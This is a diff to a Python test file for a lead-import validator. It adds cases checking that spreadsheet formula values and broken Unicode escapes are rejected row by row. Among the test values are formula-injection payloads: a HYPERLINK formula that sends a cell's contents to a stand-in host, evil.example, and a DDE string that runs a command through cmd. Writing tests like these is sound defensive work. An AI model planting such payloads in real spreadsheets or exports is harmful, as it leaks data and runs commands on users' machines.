@@ -122,6 +122,15 @@ def test_a_duplicated_json_key_is_named(tmp_path: Path) -> None:
         ("name", "Eve \u202emoc.elpmaxe", "contains an invisible or bidirectional control character (U+202E)"),
         ("company", "Ac\u200bme", "contains an invisible or bidirectional control character (U+200B)"),
         ("name", "\u2066Ana\u2069", "contains an invisible or bidirectional control character (U+2066)"),
+        # Signs in a run, parentheses, quotes, sheet and R1C1 references: what spreadsheets still evaluate
+        ("company", '+-HYPERLINK("https://evil.example/?x="&A1,"Click")', FORMULA.format("+")),
+        ("company", "-(HYPERLINK(1))", FORMULA.format("-")),
+        ("company", "-+cmd|' /C calc'!A0", FORMULA.format("-")),
+        ("company", "+Sheet1!A1", FORMULA.format("+")),
+        ("company", '+"a"&HYPERLINK(1)', FORMULA.format("+")),
+        ("company", "@+SUM(1)", FORMULA.format("@")),
+        ("company", "-'Sheet1'!A1", FORMULA.format("-")),
+        ("company", "-R1C1", FORMULA.format("-")),
     ],
 )
 def test_formulas_and_invisible_characters_are_rejected(tmp_path: Path, field: str, value: str, reason: str) -> None:
@@ -137,3 +146,15 @@ def test_formulas_and_invisible_characters_are_rejected(tmp_path: Path, field: s
 def test_ordinary_names_are_kept(tmp_path: Path, name: str) -> None:
     store, rejected = imported(csv_file(tmp_path, [row(1, name=name)]))
     assert rejected == [] and store.leads["lead-1"].name == name
+
+
+def test_a_broken_unicode_escape_rejects_its_row_only(tmp_path: Path) -> None:
+    # An unpaired surrogate (\ud800) decodes from JSON but cannot be encoded for any store
+    lines = [json.dumps(row(1)), json.dumps(row(2, name="Bad \ud800 Name")), json.dumps(row(3))]
+    history = {**row(4), "engagement_history": [{"stage": "Followup_1", "note": "\udc00"}]}
+    path = tmp_path / "leads.jsonl"
+    path.write_text("\n".join([*lines, json.dumps(history)]) + "\n", encoding="utf-8")
+    store, rejected = imported(path)
+    assert sorted(store.leads) == ["lead-1", "lead-3"]
+    reason = "contains an unpaired UTF-16 surrogate (a broken \\u escape)"
+    assert rejected == [f"row 2 (lead lead-2): name: {reason}", f"row 4 (lead lead-4): engagement_history: {reason}"]
